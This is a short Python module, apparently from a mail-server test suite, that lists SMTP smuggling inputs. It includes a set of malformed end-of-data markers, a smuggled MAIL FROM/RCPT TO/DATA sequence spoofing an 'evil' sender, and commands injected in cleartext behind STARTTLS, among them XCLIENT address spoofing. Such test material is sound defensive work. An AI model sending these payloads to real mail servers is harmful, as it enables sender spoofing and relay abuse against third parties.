"""What a peer says so that a careless server hears more than was said: false ends of a message, and
commands in the clear behind STARTTLS.
"""

from __future__ import annotations

from talk import PATHS, chunk

FALSE_ENDS = [
    b"\n.\n",
    b"\n.\r\n",
    b"\r\n.\n",
    b"\r.\r",
    b"\r.\r\n",
    b"\r\n.\r",
    b"\n.\r",
    b"\r.\n",
    b"\r\n\0.\r\n",
    b"\r\n.\0\r\n",
    b"\0\r\n.\n",
    b"\r\r\n.\r\r\n",
    b"\r\n.\r\r\n",
    b"\r\n..\r\n",
    b"\r\n.\x85",
    b"\x85.\x85",
    b"\xc2\x85.\xc2\x85",
    b"\x0b.\x0b",
    b"\x0c.\x0c",
    b"\xe2\x80\xa8.\xe2\x80\xa8",
    b"\r\n. \r\n",
    b"\r\n.\t\r\n",
    b"\x8d\x8a.\x8d\x8a",
]
SMUGGLED = b"MAIL FROM:<evil@x.example>\r\nRCPT TO:<boss@site.example>\r\nDATA\r\n"
INJECTED = [
    b"N",
    b"\r\n",
    b"NOOP\r\n",
    b"RSET\r\n",
    b"QUIT\r\n",
    b"EHLO evil.example\r\n",
    b"LHLO evil.example\r\n",
    b"MAIL FROM:<evil@x.example>\r\n",
    b"MAIL FROM:<evil@x.example>\r\nRCPT TO:<boss@site.example>\r\n",
    PATHS + b"DATA\r\n",
    PATHS + b"DATA\r\nSubject: evil\r\n\r\nevil\r\n.\r\n",
    PATHS + chunk(b"evil\r\n", last=True),
    b"BDAT 5 LAST\r\n",
    b"STARTTLS\r\n",
    b"AUTH PLAIN AGEAYg==\r\n",
    b"XCLIENT ADDR=127.0.0.1\r\n",
    b"XFORWARD ADDR=127.0.0.1\r\n",
    b"\0",
    b"\x16\x03\x01",
    b"x" * 3000,
]
